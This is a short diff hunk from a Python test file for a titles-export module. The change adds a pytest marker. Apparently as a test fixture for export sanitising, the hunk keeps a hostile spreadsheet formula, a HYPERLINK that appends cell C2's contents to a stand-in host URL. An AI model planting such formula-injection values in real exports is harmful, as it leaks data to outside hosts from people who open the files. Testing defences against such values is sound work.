@@ -32,7 +32,7 @@ from zaozhuang_titles.exports import export_start, query_dict
 from zaozhuang_titles.models import Role
 from zaozhuang_titles.text import forbidden_characters, sanitize
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.real_documents]
 
 pdftotext = shutil.which("pdftotext")
 HOSTILE_NAME = '=HYPERLINK("http://x"&C2,"核对")'
